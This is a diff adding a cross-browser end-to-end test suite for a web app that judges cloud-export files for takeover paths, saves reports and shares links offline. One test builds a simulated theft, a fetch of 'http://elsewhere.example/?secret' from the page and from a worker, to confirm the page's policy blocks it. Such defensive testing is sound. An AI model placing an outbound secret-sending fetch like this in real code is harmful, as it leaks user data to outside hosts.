@@ -1,0 +1,244 @@
+// The main path in three engines: Chromium, Firefox and WebKitGTK. What people get must not depend on
+// the browser, so what each of them saves is held against the others, byte for byte.
+
+import assert from 'node:assert/strict';
+import { readFile, readdir } from 'node:fs/promises';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { fileURLToPath, pathToFileURL } from 'node:url';
+
+import { ENGINES } from './engines.mjs';
+import { BROWSERS_OWN, DIST, serve, until } from './harness.mjs';
+
+const FOLDER = fileURLToPath(new URL('../../static/samples/estate/', import.meta.url));
+const NAMES = await readdir(FOLDER);
+const PATHS = NAMES.map((name) => join(FOLDER, name));
+const FILES = await Promise.all(
+  NAMES.map(async (name) => ({ name, text: await readFile(join(FOLDER, name), 'utf8') })),
+);
+const BUNDLE = pathToFileURL(join(DIST, 'linchpin.html')).href;
+
+/** What is told of Chromium's habits holds here too; Firefox looks for things of its own. */
+const OWN = [BROWSERS_OWN, /^(https?:\/\/)?[a-z.-]+\.(mozilla\.(com|org|net)|firefox\.com)[:/]/];
+const left = (server) => server.foreign().filter((url) => !OWN.some((own) => own.test(url)));
+
+/** What each engine saved and which link it made, by engine and place: compared at the end. */
+const taken = new Map();
+
+const text = (tab, selector) =>
+  tab.run((selector) => document.querySelector(selector)?.innerText ?? '', selector);
+const runs = (tab) => until(() => tab.run(() => Boolean(window.wasmBindings)), 'the app runs');
+const headline = (tab, wanted) =>
+  until(async () => {
+    const found = await text(tab, '#verdict h1');
+    return wanted.test(found) && found;
+  }, `the headline matches ${wanted}`);
+
+/** Clicks on what `selector` finds once it is there, stands still and nothing lies over it. */
+async function click(tab, selector) {
+  let before;
+  await until(async () => {
+    const now = await tab.run((selector) => {
+      const element = document.querySelector(selector);
+      if (!element || element.disabled) return null;
+      element.scrollIntoView({ block: 'center', behavior: 'instant' });
+      const { x, y, width, height } = element.getBoundingClientRect();
+      const over = document.elementFromPoint(x + width / 2, y + height / 2);
+      return element.contains(over) ? `${x} ${y} ${width} ${height}` : null;
+    }, selector);
+    const still = now !== null && now === before;
+    before = now;
+    return still;
+  }, `${selector} can be clicked`);
+  await tab.click(selector);
+}
+
+/** Drops the exports on the page. */
+const drop = (tab) =>
+  tab.run((files) => {
+    const dataTransfer = new DataTransfer();
+    for (const { name, text } of files) {
+      dataTransfer.items.add(new File([text], name, { type: 'application/json' }));
+    }
+    for (const type of ['dragenter', 'dragover', 'drop']) {
+      const event = new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer });
+      document.body.dispatchEvent(event);
+    }
+  }, FILES);
+
+/** Chooses the exports in the page's file dialog. */
+const pick = (tab) => tab.pick('.zone input[type=file][multiple]:not([webkitdirectory])', PATHS);
+
+/** From the verdict to everything that can be taken away; gives the link and the files. */
+async function walk(tab) {
+  const verdict = await headline(tab, /tarnholtprod can be taken over/);
+  await until(async () => (await text(tab, '#blast .totals')) !== '', 'the blast radius');
+  assert.match(await text(tab, '#blast .totals'), /43 workloads seen[\s\S]*12 exposed/);
+  assert.equal(await text(tab, '#problems'), '');
+
+  await click(tab, '.timeline .fact');
+  const evidence = await until(
+    () =>
+      tab.run(() => {
+        const hit = document.querySelector('.viewer .hit');
+        const mark = hit?.querySelector('mark');
+        if (!mark) return null;
+        const [line, number] = ['code', '.line-number'].map((part) => hit.querySelector(part).textContent);
+        return { name: document.querySelector('#viewer-title').textContent, line, number, mark: mark.textContent };
+      }),
+    'the evidence',
+  );
+  const file = FILES.find(({ name }) => name === evidence.name);
+  const line = file.text.split('\n')[Number(evidence.number) - 1];
+  assert.equal(evidence.line.trim(), line.trim(), 'the viewer shows the line of the document');
+  assert.ok(evidence.mark !== '' && line.includes(evidence.mark), evidence.mark);
+  await click(tab, '.viewer header button');
+  await until(() => tab.run(() => !document.querySelector('.viewer')), 'the viewer is gone');
+
+  await click(tab, '#switch-0');
+  await until(async () => /1 finding is taken as mended/.test(await text(tab, '.what-if')), 'the what-if');
+  assert.doesNotMatch(await text(tab, '#verdict h1'), /tarnholtprod can be/);
+  await click(tab, '.what-if button');
+  await until(() => tab.run(() => !document.querySelector('.what-if')), 'the what-if is over');
+  assert.equal(await text(tab, '#verdict h1'), verdict);
+
+  await click(tab, '.actions button');
+  const link = await until(
+    () => tab.run(() => document.querySelector('.making a.button')?.href ?? ''),
+    'a link',
+  );
+  const formats = await tab.run(() => document.querySelectorAll('.files li').length);
+  for (let format = 1; format <= formats; format += 1) {
+    await click(tab, `.files li:nth-child(${format}) button:last-child`);
+    await until(async () => (await tab.saved()).length === format, `file ${format} is saved`);
+  }
+  const files = Object.fromEntries((await tab.saved()).map(({ name, text }) => [name, text]));
+  assert.deepEqual(Object.keys(files).sort(), [
+    'linchpin-attack-layer-19.json',
+    'linchpin-attack-layer-20.json',
+    'linchpin-attack-layer.json',
+    'linchpin-registries.csv',
+    'linchpin-report.html',
+    'linchpin-report.json',
+    'linchpin-report.md',
+    'linchpin-report.sarif',
+    'linchpin-workloads.csv',
+  ]);
+  for (const [name, saved] of Object.entries(files)) {
+    assert.doesNotMatch(saved, /tarnholt|c0ffee/i, `${name} is redacted`);
+  }
+  return { link, files };
+}
+
+/** A link as somebody finds it who has nothing but the link. */
+async function opens(tab) {
+  await headline(tab, /registry-1 can be taken over/);
+  assert.match(await text(tab, '.band'), /Somebody shared this report/);
+  assert.doesNotMatch(await tab.run(() => document.documentElement.outerHTML), /tarnholt/i);
+}
+
+/** Runs a test's steps in an engine, with a server that is its proxy, and ends both. */
+async function within(engine, steps) {
+  const server = await serve();
+  const browser = await engine.start(server);
+  const tabs = [];
+  try {
+    await steps({
+      server,
+      async visit(address) {
+        const tab = await browser.visit(address);
+        tabs.push(tab);
+        await runs(tab);
+        return tab;
+      },
+    });
+    for (const tab of tabs) assert.deepEqual(await tab.errors(), []);
+    assert.deepEqual(left(server), []);
+  } finally {
+    for (const tab of tabs) await tab.close();
+    await browser.close();
+    await server.close();
+  }
+}
+
+for (const engine of ENGINES) {
+  const { name } = engine;
+
+  test(`in ${name}: exports are dropped and judged, everything is saved, and it works offline`, () =>
+    within(engine, async ({ server, visit }) => {
+      const tab = await visit(`${server.origin}/`);
+      await drop(tab);
+      const { link, files } = await walk(tab);
+      assert.ok(link.startsWith(`${server.origin}/#v1.`), link.slice(0, 80));
+      taken.set(`${name}, the site`, { ...files, link: link.slice(link.indexOf('#')) });
+
+      await opens(await visit(link));
+
+      await until(
+        () => tab.run(async () => (await navigator.serviceWorker.getRegistration())?.active?.state === 'activated'),
+        'the service worker is there',
+      );
+      await server.close();
+      await tab.go('about:blank');
+      await tab.go(`${server.origin}/`);
+      await runs(tab);
+      await drop(tab);
+      await headline(tab, /tarnholtprod can be taken over/);
+      await tab.go('about:blank');
+      await tab.go(link);
+      await opens(tab);
+    }));
+
+  test(`in ${name}: the one file does the same from a disk, with files from there, and asks nobody`, () =>
+    within(engine, async ({ server, visit }) => {
+      const tab = await visit(BUNDLE);
+      await pick(tab);
+      const { link, files } = await walk(tab);
+      assert.ok(link.startsWith(`${BUNDLE}#v1.`), link.slice(0, 80));
+      taken.set(`${name}, the one file`, { ...files, link: link.slice(link.indexOf('#')) });
+      await opens(await visit(link));
+      assert.deepEqual(server.own(), []);
+    }));
+
+  test(`in ${name}: neither the page nor a worker of it can fetch anything from elsewhere`, async () => {
+    const server = await serve();
+    const browser = await engine.start(server);
+    try {
+      for (const address of [`${server.origin}/`, BUNDLE]) {
+        const tab = await browser.visit(address);
+        await runs(tab);
+        const outcome = await tab.run(async () => {
+          const steal = "fetch('http://elsewhere.example/?secret', { mode: 'no-cors' })";
+          const text = `${steal}.then(() => postMessage('sent'), () => postMessage('refused'))`;
+          const url = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
+          const worker = new Worker(url);
+          return Promise.all([
+            fetch('http://elsewhere.example/?secret', { mode: 'no-cors' }).then(() => 'sent', () => 'refused'),
+            new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data))),
+          ]);
+        });
+        assert.deepEqual(outcome, ['refused', 'refused']);
+        assert.deepEqual(left(server), []);
+        // What a policy does not stop is seen by the server, so the above would have been seen too.
+        await tab.run(() => void setTimeout(() => location.assign('http://elsewhere.example/?left')));
+        await until(() => left(server).length > 0, 'the proxy has seen it');
+        assert.deepEqual([...new Set(left(server))], ['http://elsewhere.example/?left']);
+        server.traffic.length = 0;
+        await tab.close();
+      }
+    } finally {
+      await browser.close();
+      await server.close();
+    }
+  });
+}
+
+test('every engine saves the same bytes and makes the same link, on the site and from a disk', () => {
+  assert.equal(taken.size, 2 * ENGINES.length, [...taken.keys()].join(', '));
+  const [[first, wanted], ...others] = taken;
+  for (const [place, found] of others) {
+    for (const [name, saved] of Object.entries(wanted)) {
+      assert.equal(found[name], saved, `${name}: ${place} and ${first}`);
+    }
+  }
+});
